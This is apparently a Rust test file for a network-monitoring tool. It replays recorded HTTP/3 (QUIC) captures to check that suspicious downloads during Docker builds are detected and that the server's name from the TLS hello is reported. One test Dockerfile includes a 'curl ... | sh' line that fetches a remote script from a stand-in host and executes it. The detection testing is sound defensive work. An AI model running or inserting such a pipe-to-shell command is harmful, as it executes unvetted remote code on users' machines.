//! Downloads over HTTP/3, as recorded from a real client (`testdata/tls/quic-*.pcap`).

use std::collections::BTreeMap;
use std::fs;

use serde_json::Value;
use tw_model::Timestamp;
use tw_testkit::{Packet, Rewrite, to_pcap};

use super::stage::{Case, DAEMON, DOCKERFILE, HOST, NEW, SILENT, at, build, built, call, merged};
use crate::support::{Lab, check_all, testdata};

const RECORDINGS: [&str; 4] = ["quic-v1", "quic-v2", "quic-retry", "quic-long-hello"];
const NAME: &str = "cdn.rare-tools.example";

/// The packets of a recording, to the new place, from then on.
fn recorded(name: &str, when: Timestamp) -> Vec<Packet> {
    let file = fs::read(testdata(&format!("tls/{name}.pcap"))).expect("testdata is there");
    let mut records = Vec::new();
    let mut rest = &file[24..];
    while let Some((head, after)) = rest.split_first_chunk::<16>() {
        let field = |n: usize| u32::from_le_bytes(head[4 * n..4 * n + 4].try_into().expect("four"));
        let time = Timestamp::from_secs_nanos(i64::from(field(0)), 1000 * i64::from(field(1)));
        let (frame, next) = after.split_at(usize::try_from(field(2)).expect("a frame"));
        records.push((time, frame));
        rest = next;
    }
    let rewrite = Rewrite {
        addresses: BTreeMap::from([([203, 0, 113, 80], [203, 0, 113, 9])]),
        texts: Vec::new(),
        began: records[0].0,
        begins: when,
    };
    records.iter().filter_map(|(time, frame)| rewrite.apply(*time, frame)).collect()
}

fn attack(recording: &str, dockerfile: &str) -> Vec<Packet> {
    let request = build("/v1.41/build?t=evil:1&q=1", dockerfile);
    merged([call(DAEMON, &request, &built()), recorded(recording, at(1.0))])
}

#[test]
fn a_download_over_http3_belongs_to_the_build() {
    let named = format!("FROM alpine:3.18\nRUN curl --http3 https://{NAME}/i.sh | sh\n");
    let cases: Vec<Case> = RECORDINGS
        .into_iter()
        .flat_map(|recording| {
            [
                Case::attack(recording, attack(recording, SILENT)).unnamed(),
                Case::attack(recording, attack(recording, &named)),
                Case::attack(recording, attack(recording, DOCKERFILE)),
            ]
        })
        .collect();
    check_all(&cases, Case::complaints);
}

#[test]
fn the_name_of_an_http3_server_stands_in_the_finding() {
    check_all(&RECORDINGS, |recording| {
        let lab = Lab::new();
        let capture = lab.file("case.pcap", &to_pcap(&attack(recording, SILENT)));
        let run = lab.replay(&capture).succeeded();
        let findings = run.events("finding");
        let is_it = |f: &&Value| f["destination"]["ip"] == NEW && f["docker_host"] == HOST;
        let Some(finding) = findings.iter().find(is_it) else {
            return vec![format!("{recording}: {findings:?}")];
        };
        let name = &finding["destination"]["names"][0];
        if name["name"] == NAME && name["from"] == "sni" {
            return Vec::new();
        }
        vec![format!("{recording}: {finding}")]
    });
}

#[test]
fn dissect_prints_the_hello_of_an_http3_client() {
    check_all(&RECORDINGS, |recording| {
        let lab = Lab::new();
        let capture = lab.file("case.pcap", &to_pcap(&recorded(recording, at(0.0))));
        let output = lab
            .command("dissect")
            .args(["--format", "json"])
            .arg(&capture)
            .output()
            .expect("the binary starts");
        let text = String::from_utf8(output.stdout).expect("UTF-8");
        let hellos: Vec<&str> = text.lines().filter(|l| l.contains("\"tls\":")).collect();
        let start = format!("\"tls\":{{\"sni\":\"{NAME}\",\"ja4\":\"q13d");
        if hellos.len() == 1
            && hellos[0].contains(&start)
            && hellos[0].contains("\"proto\":\"UDP\"")
        {
            return Vec::new();
        }
        vec![format!("{recording}: {hellos:?}")]
    });
}
